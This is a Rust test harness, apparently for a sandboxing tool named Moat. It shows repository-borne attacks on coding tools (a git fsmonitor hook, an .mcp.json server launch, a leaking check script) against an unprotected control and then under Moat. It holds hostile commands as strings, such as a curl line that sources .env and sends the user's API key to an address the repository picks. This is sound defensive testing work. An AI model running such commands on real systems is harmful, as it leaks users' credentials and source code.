// SPDX-License-Identifier: Apache-2.0
//! Shows each failure that Moat is built against, and whether Moat survived it.
//!
//! Each row first runs the *control*: a plain program in the place of a
//! careless tool, in which the attack must work. Then Moat does its usual work
//! in the same repository, under a recorder. A row that has no code behind it
//! says so and names the issue.
//!
//! Invariant: a row claims only what ran in the same call; a control that did
//! not show the attack, or a run in which the agent did no work, is a failure.

mod hostile;
mod moat;
mod server;

use std::fmt::Write as _;
use std::path::Path;

use anyhow::Context as _;

use crate::door;
use hostile::Hostile;
pub(crate) use moat::User;
use server::{Part, Server};

/// A check of the planted program that runs its tests and nothing else.
pub(crate) const PLAIN_CHECK: &str = "python3 -m unittest -q test_cart";

/// What came of a row.
#[derive(Debug, PartialEq, Eq)]
enum Verdict {
    Survived { control: String, evidence: String },
    Fell { control: String, evidence: String },
    NotRun { reason: String },
    NotBuilt { issue: &'static str },
}

/// A failure and how it is shown.
struct Row {
    failure: &'static str,
    show: Show,
}

/// Runs the control and then the program, in an empty directory.
type Demonstration = fn(program: &Path, directory: &Path) -> anyhow::Result<Verdict>;

enum Show {
    Run(Demonstration),
    NotBuilt(&'static str),
}

const ROWS: &[Row] = &[
    Row { failure: "opening a repository executes code", show: Show::Run(execution) },
    Row {
        failure: "a key is sent to an address of the repository's choosing",
        show: Show::Run(stolen_key),
    },
    Row {
        failure: "an update breaks the machine",
        show: Show::NotBuilt("issue 9; Moat has no updater"),
    },
    Row { failure: "requests identify the user", show: Show::Run(marks) },
    Row { failure: "MCP servers of a repository are a back door", show: Show::Run(mcp) },
    Row {
        failure: "fake accounts harvest a model's answers",
        show: Show::NotBuilt("the gateway has no issue yet"),
    },
    Row { failure: "code leaves the organisation's servers", show: Show::Run(leaving_code) },
    Row {
        failure: "a tool stays installed after a ban",
        show: Show::NotBuilt("issue 9; Moat has no inventory of machines"),
    },
];

/// Prints one row per failure, or only those whose text contains one of `words`.
///
/// # Errors
/// When Moat did not survive, or something did not run that should have, or no
/// row is meant.
pub(crate) fn run(words: &[&str]) -> anyhow::Result<()> {
    let program = moat::binary()?;
    let (mut survived, mut not_built, mut failed) = (0, 0, 0);
    let meant =
        |row: &&Row| words.is_empty() || words.iter().any(|word| row.failure.contains(word));
    let rows: Vec<_> = ROWS.iter().filter(meant).collect();
    anyhow::ensure!(!rows.is_empty(), "no row contains `{}`", words.join("` or `"));
    for row in &rows {
        let verdict = match row.show {
            Show::NotBuilt(issue) => Verdict::NotBuilt { issue },
            Show::Run(show) => tempfile::tempdir()
                .context("could not create a directory")
                .and_then(|directory| show(&program, directory.path()))
                .unwrap_or_else(|error| Verdict::NotRun { reason: format!("{error:#}") }),
        };
        match verdict {
            Verdict::Survived { .. } => survived += 1,
            Verdict::NotBuilt { .. } => not_built += 1,
            Verdict::Fell { .. } | Verdict::NotRun { .. } => failed += 1,
        }
        door::say(&rendered(row.failure, &verdict));
    }
    let total = rows.len();
    door::say(&format!(
        "{total} failures: {survived} survived, {not_built} not built yet, {failed} failed"
    ));
    anyhow::ensure!(failed == 0, "{failed} of {total} rows failed");
    Ok(())
}

fn rendered(failure: &str, verdict: &Verdict) -> String {
    let (word, parts) = match verdict {
        Verdict::Survived { control, evidence } => {
            ("survived", vec![("control", control), ("moat", evidence)])
        }
        Verdict::Fell { control, evidence } => {
            ("FELL", vec![("control", control), ("moat", evidence)])
        }
        Verdict::NotRun { reason } => ("NOT RUN", vec![("reason", reason)]),
        Verdict::NotBuilt { issue } => {
            return format!("{:<14} {failure} ({issue})", "not built yet");
        }
    };
    let mut text = format!("{word:<14} {failure}");
    for (name, part) in parts {
        // A string takes every write.
        _ = write!(text, "\n    {name:<8} {}", part.replace('\n', "\n             "));
    }
    text
}

/// A plain `git status` runs what `core.fsmonitor` of the repository names.
fn execution(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
    let sink = Server::start(Part::Sink)?;
    let hostile = Hostile::plant(directory, sink.port())?;
    let user = User::new(program, directory, "home")?;
    plain("git", &["status", "--short"], &hostile, &user)?;
    let fired = hostile.take_fired()?;
    anyhow::ensure!(
        fired.iter().any(|name| name == "git-fsmonitor"),
        "the control did not show the attack: `git status` ran none of the planted programs"
    );
    let control = format!("`git status` ran {}", fired.join(", "));

    let mut started = Vec::new();
    let doctor = user.run(&hostile.workspace, &["doctor"])?;
    let repair = user.repair(&hostile)?;
    for line in doctor.programs.iter().chain(&repair.programs) {
        if line.contains("/.canary/") || line.contains("workspace/git\"") {
            started.push(line.clone());
        }
    }
    started.extend(hostile.take_fired()?);
    Ok(if started.is_empty() {
        Verdict::Survived {
            control,
            evidence: format!(
                "`moat doctor` and `moat exec` (which repaired the program) started {} programs, none of the {} planted ones",
                doctor.programs.len() + repair.programs.len(),
                hostile.canaries()
            ),
        }
    } else {
        Verdict::Fell { control, evidence: started.join("\n") }
    })
}

/// A client that takes its address from the repository's `.env` sends the key there.
fn stolen_key(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
    let sink = Server::start(Part::Sink)?;
    let hostile = Hostile::plant(directory, sink.port())?;
    let user = User::new(program, directory, "home")?;
    let client = "set -a; . ./.env; unset HTTP_PROXY HTTPS_PROXY; \
        curl -s --max-time 5 -H \"Authorization: Bearer $OPENAI_API_KEY\" $OPENAI_BASE_URL/models";
    plain("sh", &["-c", client], &hostile, &user)?;
    let stolen = sink.take();
    anyhow::ensure!(
        stolen.iter().any(|request| request.head.contains(moat::KEY)),
        "the control did not show the attack: the plain client sent no key"
    );
    let control = "a client that reads `.env` sent the key to the repository's address".to_owned();

    // Without the part of the check that connects by itself: that is another row.
    hostile.make_check_harmless()?;
    let repair = user.repair(&hostile)?;
    let welded = repair.requests.iter().any(|request| request.head.contains(moat::KEY));
    anyhow::ensure!(
        welded,
        "the key did not reach the endpoint it belongs to, so the run shows nothing"
    );
    let port = format!("htons({})", sink.port());
    let mut reached: Vec<_> =
        repair.connections.into_iter().filter(|line| line.contains(&port)).collect();
    reached.extend(sink.take().into_iter().map(|request| request.head));
    Ok(if reached.is_empty() {
        Verdict::Survived {
            control,
            evidence: "`moat exec` sent it to the endpoint of the user's configuration only; \
                no connection to the repository's address, which six of its files name"
                .to_owned(),
        }
    } else {
        Verdict::Fell { control, evidence: reached.join("\n") }
    })
}

/// A client that puts its surroundings into its requests sends different bytes for two users.
fn marks(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
    let sink = Server::start(Part::Sink)?;
    let twins = [
        ("alice", [("TZ", "Asia/Shanghai"), ("LANG", "zh_CN.UTF-8"), ("USER", "alice")]),
        ("bob", [("TZ", "UTC"), ("LANG", "C.UTF-8"), ("USER", "bob")]),
    ];
    let (mut controls, mut bodies) = (Vec::new(), Vec::new());
    for (name, variables) in twins {
        let place = directory.join(name).join("place").join(name);
        let hostile = Hostile::plant(&place, sink.port())?;
        let user = User::new(program, directory, name)?.with(&variables);
        let client = format!(
            "curl -s --noproxy '*' --max-time 5 -d \"user=$USER zone=$TZ lang=$LANG dir=$PWD\" http://127.0.0.1:{}/",
            sink.port()
        );
        plain("sh", &["-c", &client], &hostile, &user)?;
        controls.push(sink.take());
        hostile.make_check_harmless()?;
        let repair = user.repair(&hostile)?;
        let port = user.port().to_string();
        let canonical = |text: &str| text.replace(&port, "PORT");
        bodies.push(
            repair
                .requests
                .iter()
                .map(|request| (canonical(&request.head), canonical(&request.body)))
                .collect::<Vec<_>>(),
        );
    }
    anyhow::ensure!(controls[0] != controls[1], "the control did not show the attack");
    let control =
        "a client that sends user, zone, language and directory differs between two users"
            .to_owned();
    Ok(if bodies[0] == bodies[1] {
        Verdict::Survived {
            control,
            evidence: format!(
                "{} request(s) of `moat exec`, the same bytes for two users, homes, places, time zones and languages \
                 (the full matrix is issue 6)",
                bodies[0].len()
            ),
        }
    } else {
        Verdict::Fell { control, evidence: first_difference(&bodies[0], &bodies[1]) }
    })
}

/// A client that starts the servers of `.mcp.json` runs the repository's program.
fn mcp(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
    let sink = Server::start(Part::Sink)?;
    let hostile = Hostile::plant(directory, sink.port())?;
    let user = User::new(program, directory, "home")?;
    let client = "import json, subprocess\n\
        for server in json.load(open('.mcp.json'))['mcpServers'].values():\n    \
        subprocess.run([server['command'], *server['args']])\n";
    plain("python3", &["-c", client], &hostile, &user)?;
    let fired = hostile.take_fired()?;
    anyhow::ensure!(
        fired == ["mcp-server"],
        "the control did not show the attack: a plain client started {fired:?}"
    );
    let control = "a client that reads `.mcp.json` started the repository's server".to_owned();

    let repair = user.repair(&hostile)?;
    let mut started = hostile.take_fired()?;
    started.extend(
        repair
            .programs
            .into_iter()
            .filter(|line| line.contains("-mcp\"") || line.contains("/mcp-server\"")),
    );
    Ok(if started.is_empty() {
        Verdict::Survived {
            control,
            evidence: "`moat exec` started none of the three planted servers; \
                Moat has no MCP client yet (issue 8)"
                .to_owned(),
        }
    } else {
        Verdict::Fell { control, evidence: started.join("\n") }
    })
}

/// A check that sends the source away reaches the attacker when it runs plainly.
fn leaving_code(program: &Path, directory: &Path) -> anyhow::Result<Verdict> {
    let sink = Server::start(Part::Sink)?;
    let hostile = Hostile::plant(directory, sink.port())?;
    let user = User::new(program, directory, "home")?;
    plain("sh", &["check.sh"], &hostile, &user)?;
    let taken = sink.take();
    let stolen = taken.iter().filter(|request| request.body.contains("def total"));
    let ways = stolen.count();
    anyhow::ensure!(ways == 2, "the control did not show the attack: {ways} of 2 ways worked");
    let control =
        "the repository's test script sent the source away in 2 ways (python, curl)".to_owned();

    let repair = user.repair(&hostile)?;
    anyhow::ensure!(
        repair.programs.iter().any(|line| line.contains("\"curl\"")),
        "the check did not try to send anything, so the run shows nothing"
    );
    let reached = sink.take();
    Ok(if reached.is_empty() {
        Verdict::Survived {
            control,
            evidence: "`moat exec` ran the same script and repaired the program; nothing arrived"
                .to_owned(),
        }
    } else {
        Verdict::Fell { control, evidence: format!("{} request(s) arrived", reached.len()) }
    })
}

/// Runs a program without any protection, as the user, in the workspace.
fn plain(program: &str, arguments: &[&str], hostile: &Hostile, user: &User) -> anyhow::Result<()> {
    door::command(program, &hostile.workspace)
        .args(arguments)
        .env_clear()
        .envs(user.variables().iter().map(|(name, value)| (name, value)))
        .output()
        .with_context(|| format!("could not start `{program}`"))?;
    Ok(())
}

fn first_difference(one: &[(String, String)], two: &[(String, String)]) -> String {
    if one.len() != two.len() {
        return format!("{} and {} requests", one.len(), two.len());
    }
    let lines = |requests: &[(String, String)]| {
        requests
            .iter()
            .flat_map(|(head, body)| [head.clone(), body.replace("\\n", "\n")])
            .flat_map(|text| text.lines().map(str::to_owned).collect::<Vec<_>>())
            .collect::<Vec<_>>()
    };
    let differing = lines(one).into_iter().zip(lines(two)).find(|(a, b)| a != b);
    differing.map_or_else(String::new, |(a, b)| format!("{a}\n{b}"))
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;

    #[test]
    fn a_row_says_what_ran_and_what_did_not() {
        let survived =
            Verdict::Survived { control: "it ran".to_owned(), evidence: "it did not".to_owned() };
        assert_eq!(
            rendered("a failure", &survived),
            "survived       a failure\n    control  it ran\n    moat     it did not"
        );
        assert_eq!(
            rendered("a failure", &Verdict::NotBuilt { issue: "issue 9" }),
            "not built yet  a failure (issue 9)"
        );
    }

    #[test]
    fn the_control_of_opening_a_repository_shows_the_attack() {
        let directory = tempfile::tempdir().unwrap();
        let sink = Server::start(Part::Sink).unwrap();
        let hostile = Hostile::plant(directory.path(), sink.port()).unwrap();
        let user = User::new(Path::new("true"), directory.path(), "home").unwrap();
        assert!(hostile.take_fired().unwrap().is_empty(), "planting fires nothing");
        plain("git", &["status"], &hostile, &user).unwrap();
        assert!(hostile.take_fired().unwrap().contains(&"git-fsmonitor".to_owned()));
        let quiet = ["-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null", "status"];
        plain("git", &quiet, &hostile, &user).unwrap();
        assert!(hostile.take_fired().unwrap().is_empty(), "a defused git fires nothing");
    }

    /// A program in the place of `moat` that repairs, and does `more` besides.
    fn stand_in(directory: &Path, more: &str) -> PathBuf {
        let text = format!(
            "#!/usr/bin/env python3\nimport json, os, re, subprocess, sys, urllib.request\n\
             if sys.argv[1] != 'exec': sys.exit(0)\n\
             home = os.environ['XDG_CONFIG_HOME'] + '/moat/'\n\
             url = re.search('url = \"(.*)\"', open(home + 'config.toml').read()).group(1)\n\
             def ask(body):\n    \
                 head = {{'Authorization': 'Bearer ' + open(home + 'model.key').read()}}\n    \
                 urllib.request.urlopen(urllib.request.Request(url + '/x', body, head)).read()\n\
             ask(b'{{}}')\n\
             open('cart.py', 'w').write('def total(prices):\\n    return sum(prices)\\n')\n\
             sealed = ['unshare', '--user', '--map-root-user', '--net', '--']\n{more}\n"
        );
        let program = directory.join("stand-in");
        door::write_program(&program, &text).unwrap();
        program
    }

    /// A row must tell a tool that confines its check from one that does `careless` too.
    fn tells_apart(show: Demonstration, careless: &str) {
        let confined = "subprocess.run(sealed + ['sh', 'check.sh'], check=True)";
        for (more, survives) in [("", true), (careless, false)] {
            let directory = tempfile::tempdir().unwrap();
            let program = stand_in(directory.path(), &format!("{confined}\n{more}"));
            let verdict = show(&program, directory.path()).unwrap();
            let survived = matches!(verdict, Verdict::Survived { .. });
            assert_eq!(survived, survives, "{verdict:?}");
        }
    }

    #[test]
    fn a_tool_that_asks_git_falls() {
        tells_apart(execution, "subprocess.run(['git', 'status'])");
    }

    #[test]
    fn a_tool_that_reads_env_files_falls() {
        let client = ". ./.env; curl -s --noproxy \"*\" $OPENAI_BASE_URL";
        tells_apart(stolen_key, &format!("subprocess.run(['sh', '-c', '{client}'])"));
    }

    #[test]
    fn a_tool_that_marks_its_requests_falls() {
        tells_apart(marks, "ask(os.environ['USER'].encode())");
    }

    #[test]
    fn a_tool_that_starts_the_servers_of_a_repository_falls() {
        let start = "for s in json.load(open('.mcp.json'))['mcpServers'].values(): \
            subprocess.run([s['command']])";
        tells_apart(mcp, start);
    }

    #[test]
    fn a_tool_that_runs_the_check_plainly_falls() {
        tells_apart(leaving_code, "subprocess.run(['sh', 'check.sh'])");
    }

    #[test]
    fn a_tool_that_does_nothing_proves_nothing() {
        let directory = tempfile::tempdir().unwrap();
        let error = mcp(Path::new("/bin/true"), directory.path()).unwrap_err();
        assert!(error.to_string().contains("shows nothing"), "{error}");
    }
}
